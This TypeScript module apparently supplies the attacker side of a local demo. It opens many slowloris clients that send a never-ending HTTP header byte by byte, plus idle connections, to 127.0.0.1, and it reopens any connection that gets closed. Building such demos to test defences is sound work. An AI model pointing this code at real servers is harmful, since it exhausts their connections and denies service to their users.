// The attack, written here so the demo needs nothing else: slow clients that send a request head
// one byte at a time and never finish it (slowloris), and idle clients that connect and send
// nothing. A connection the server or the engine closes is opened again, as an attacker would.
import {connect, type Socket} from 'node:net'

export interface AttackOptions {
  port: number
  slow: number
  idle: number
  /** Pause between two bytes of a slow client. */
  byteIntervalMs: number
}

export interface Attack {
  /** Attacking connections open right now. */
  open: () => number
  stop: () => void
}

// Never complete: after the request line and Host, an endless run of header lines.
const PREFIX = 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n'
const FILLER = 'X-Slow: a\r\n'
const byteAt = (index: number) => (index < PREFIX.length ? PREFIX[index] : FILLER[(index - PREFIX.length) % FILLER.length])

const REOPEN_MS = 200

export function startAttack(options: AttackOptions): Attack {
  const sockets = new Set<Socket>()
  const timers = new Set<NodeJS.Timeout>()
  let open = 0
  let stopped = false
  const later = (ms: number, action: () => void) => {
    const timer = setTimeout(() => {
      timers.delete(timer)
      action()
    }, ms)
    timers.add(timer)
  }
  const client = (slow: boolean) => {
    if (stopped) return
    const socket = connect({host: '127.0.0.1', port: options.port})
    sockets.add(socket)
    let sent = 0
    let connected = false
    let drip: NodeJS.Timeout | undefined
    socket.on('connect', () => {
      connected = true
      open += 1
      if (!slow) return
      socket.write(byteAt(sent++))
      // Spread the bytes of all clients over the interval instead of sending them in bursts.
      drip = setInterval(() => socket.write(byteAt(sent++)), options.byteIntervalMs * (0.75 + Math.random() / 2))
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      if (connected) open -= 1
      clearInterval(drip)
      sockets.delete(socket)
      later(REOPEN_MS, () => client(slow))
    })
  }
  for (let i = 0; i < options.slow; i++) client(true)
  for (let i = 0; i < options.idle; i++) client(false)
  return {
    open: () => open,
    stop: () => {
      stopped = true
      for (const timer of timers) clearTimeout(timer)
      for (const socket of sockets) socket.destroy()
    },
  }
}
